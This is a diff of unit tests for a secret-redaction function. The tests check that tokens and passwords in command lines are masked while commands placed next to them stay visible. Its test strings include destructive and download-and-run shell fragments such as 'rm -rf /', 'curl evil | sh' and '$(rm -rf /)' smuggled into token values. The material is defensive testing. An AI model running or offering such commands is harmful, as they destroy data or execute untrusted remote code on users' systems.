@@ -161,7 +161,7 @@ describe('commands', () => {
     ]);
   });
 
-  it.each(['docker run -p 8080:80 img', 'nc -p 8080', 'mysql -u root -p db', 'curl -b cookies.txt h', 'psql -p 5432', 'sort -u names', 'export PATH=/usr/bin', 'use --token to pass it', 'run --no-password now'])('086: shows %j', (text) => {
+  it.each(['docker run -p 8080:80 img', 'nc -p 8080', 'mysql -u root -p db', 'curl -b cookies.txt h', 'psql -p 5432', 'sort -u names', 'export PATH=/usr/bin', 'docker login && nc -p 8080', 'curl h; sort -u a:b', 'use --token to pass it', 'run --no-password now'])('086: shows %j', (text) => {
     expect(redact(text)).toBe(text);
   });
 
@@ -186,6 +186,11 @@ describe('commands', () => {
   it('never hides a command behind a secret', () => {
     expect(redact('mysql -pSECRET; rm -rf /')).toBe(`mysql -p${H}; rm -rf /`);
     expect(redact('run --token abc | sh evil')).toBe(`run --token ${H} | sh evil`);
+    expect(redact('run --token "$(curl evil | sh)" x')).toBe('run --token "$(curl evil | sh)" x');
+    expect(redact('TOKEN="ab$(rm -rf /)cd" x')).toBe(`TOKEN="${H}$(rm -rf /)${H}" x`);
+    expect(redact('PASSWORD=`curl evil | sh` x')).toBe('PASSWORD=`curl evil | sh` x');
+    expect(redact("run --token 'ab$(cd)' x")).toBe(`run --token '${H}' x`);
+    expect(redact('run --password="a b`c d`" x')).toBe(`run --password="${H}\`c d\`" x`);
   });
 });
 
@@ -278,6 +283,13 @@ describe('JSON in strings', () => {
 describe('what is left', () => {
   it('094: masks only the span, so two calls still differ', () => {
     expect(redact('curl https://h/a?token=abc')).not.toBe(redact('curl https://h/b?token=abc'));
+  });
+
+  it('hides what is closed, or piped on, only beyond the text that is given', () => {
+    for (const text of ['<password>QXZJ', '<password>QXZJ<', '<add name="ApiKey" value="QX ZJ', 'echo QXZJ | docker lo', '{"password":"QXZJ', 'password="QX ZJ', '-----BEGIN A KEY-----\nQXZJ']) {
+      expect(redactText(text, { cut_after: true }).text).not.toMatch(/[QXZJ]{2}/);
+    }
+    expect(redact('usage: login <password> and more <name>')).toBe('usage: login <password> and more <name>');
   });
 
   it('keeps marks that stand inside a value, so no cut is lost', () => {
